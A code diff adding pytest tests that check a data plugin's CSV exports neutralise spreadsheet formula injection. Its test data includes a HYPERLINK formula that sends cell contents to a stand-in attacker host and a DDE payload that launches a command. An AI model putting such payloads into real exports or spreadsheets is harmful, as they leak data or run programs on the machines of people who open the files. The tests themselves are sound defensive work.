@@ -90,3 +90,58 @@ def test_the_writer_writes_every_lieu_or_nothing(tmp_path, schema, as_stream):
     from plugin.core.readers import read_table
 
     assert read_table(target).row_count == 4
+
+
+# ------------------------------------------------------------------------------------------------ item 5
+FORMULAS = ["=1+1", "-2+3", "+33123456789", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1",
+            '=HYPERLINK("http://evil.example/?"&A1;"clic")', "\uff1d1+1", "-", "+"]
+
+
+def assert_no_formula(text: str) -> int:
+    """Every cell of a CSV text reads as text in a spreadsheet; returns the number of cells seen."""
+    import csv
+    import io
+
+    from plugin.core.csv_safety import FORMULA_STARTS
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
+    return len(cells)
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_defuse_cell_defuses_every_formula_start(value):
+    from plugin.core.csv_safety import defuse_cell
+
+    assert defuse_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Médiathèque", "", "2 rue de la Paix", "a=b", "mairie@reims.fr", 5, None, "'=1"])
+def test_defuse_cell_leaves_plain_values(value):
+    from plugin.core.csv_safety import defuse_cell
+
+    assert defuse_cell(value) == value
+
+
+def test_the_producers_report_defuses_every_column():
+    from plugin.core.producer_report import issues_csv, lieux_of
+    from plugin.core.validation.issues import Issue, Report
+
+    issues = [Issue(row=i + 1, id=formula, field="nom", code="whitespace", severity="warning", message=formula,
+                    value=formula, suggestion=formula) for i, formula in enumerate(FORMULAS)]
+    report = Report(rows=len(FORMULAS), issues=issues, source="x.csv", schema_version="1.0.2")
+    lieux = lieux_of([{"nom": formula, "commune": formula} for formula in FORMULAS])
+    text = issues_csv(report, lieux, accepted=[(issues[0], "=cmd|' /C calc'!A0")])
+    assert assert_no_formula(text) > 13 * len(FORMULAS)
+    assert text.count("'=HYPERLINK(") == 6  # id, nom, commune, message, value, suggestion of that lieu
+
+
+def test_an_export_on_request_defuses_and_a_conformant_one_does_not(tmp_path, schema):
+    from plugin.core.readers import read_table
+    from plugin.core.writers import write_records
+
+    records = [{"id": f"l{i}", "nom": formula, "commune": formula} for i, formula in enumerate(FORMULAS)]
+    write_records(tmp_path / "conforme.csv", records, schema)
+    assert [r["nom"] for r in read_table(tmp_path / "conforme.csv").rows][:3] == FORMULAS[:3]  # values as they are
+    write_records(tmp_path / "tableur.csv", records, schema, defuse_formulas=True)
+    assert assert_no_formula((tmp_path / "tableur.csv").read_text(encoding="utf-8")) == 32 * (len(FORMULAS) + 1)
